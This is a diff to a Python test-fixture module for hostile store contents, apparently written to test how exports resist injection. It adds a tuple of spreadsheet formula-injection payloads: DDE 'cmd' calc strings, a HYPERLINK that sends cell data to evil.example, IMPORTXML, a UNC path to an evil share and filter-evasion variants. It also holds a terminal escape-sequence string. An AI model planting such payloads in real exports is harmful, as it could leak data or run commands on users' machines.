@@ -10,7 +10,7 @@ from sqlalchemy import inspect
 from core.store import Store
 from tests.pages.filled_store import Filled, fill
 
-__all__ = ["COMMANDS", "KEYWORD", "MARKUP", "fill_hostile"]
+__all__ = ["COMMANDS", "FORMULAS", "KEYWORD", "MARKUP", "fill_hostile"]
 
 COMMANDS = "\x1b]0;owned\x07\x9b2J"
 """What a terminal would obey."""
@@ -55,3 +55,10 @@ def fill_hostile(url: str, seeds: Sequence[int]) -> Filled:
     finally:
         store.close()
     return filled
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example?x="&A1,"see")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0", "\t=1+cmd|'x'!A0", " =IMPORTXML(A1)", "＝cmd|'x'!A0",
+    "a;=HYPERLINK(A1)", "a\t=HYPERLINK(A1)", "=http://evil.example/a", r"='\\evil\share\[book]x'!A1",
+)  # fmt: skip
